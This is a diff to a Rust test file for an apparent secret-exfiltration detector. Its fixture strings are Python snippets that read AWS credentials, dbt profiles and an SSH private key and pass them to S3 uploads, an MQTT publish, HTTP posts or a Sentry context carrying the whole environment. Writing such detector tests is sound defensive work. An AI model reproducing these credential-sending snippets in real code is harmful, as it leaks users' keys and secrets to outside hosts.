@@ -464,9 +464,11 @@ fn the_one_pass_over_every_source_lets_through_each_line_a_source_reads() {
 }
 
 #[test]
-fn secrets_handed_to_a_cloud_upload_a_broker_or_an_error_reporter_are_sent() {
-    let s3 = "import os, boto3\ns3 = boto3.client('s3')\nbody = open(os.path.expanduser('~/.dbt/profiles.yml')).read() + open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Bucket='b', Key='k', Body=body)\n";
-    assert_eq!(secret_flows(s3, 1), vec![(3, "a credential file", 4)]);
+fn secrets_handed_to_a_broker_or_an_error_reporter_are_sent() {
+    // A client built with its own key and then used is that service's call, not a send of the key: a method of
+    // the client (`publisher.publish(…)`, `s3.upload_file(…)`) is not read as a send.
+    let client = "const publisher = new QueuePublisher(\n    process.env.CF_ACCOUNT_ID,\n    process.env.CF_API_TOKEN\n);\nawait publisher.publish('my-queue', [{ type: 'signup' }]);\n";
+    assert!(secret_flows(client, 1).is_empty());
     let mqtt = "import paho.mqtt.publish as publish\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\npublish.single('t/hello', key, hostname=REG)\n";
     assert_eq!(secret_flows(mqtt, 1), vec![(2, "a credential file", 3)]);
     let sentry = "import os, sentry_sdk\nsentry_sdk.set_context('kernel_env', os.environ.copy())\n";
@@ -484,8 +486,8 @@ fn a_credential_field_before_a_secret_in_the_same_call_does_not_cover_it() {
     for c in [
         "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, params={'key': 'x'}, data=body)\n",
         "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post(u, data={'key': 'abc', 'blob': body})\n",
-        "body = open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Key='k', Body=body)\n",
-        "body = open(os.path.expanduser('~/.aws/credentials')).read()\ns3.put_object(Body=body, Key='k')\n",
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.put(u, Key='k', data=body)\n",
+        "body = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.put(u, data=body, Key='k')\n",
     ] {
         assert_eq!(secret_flows(c, 1), vec![(1, "a credential file", 2)], "{c}");
     }
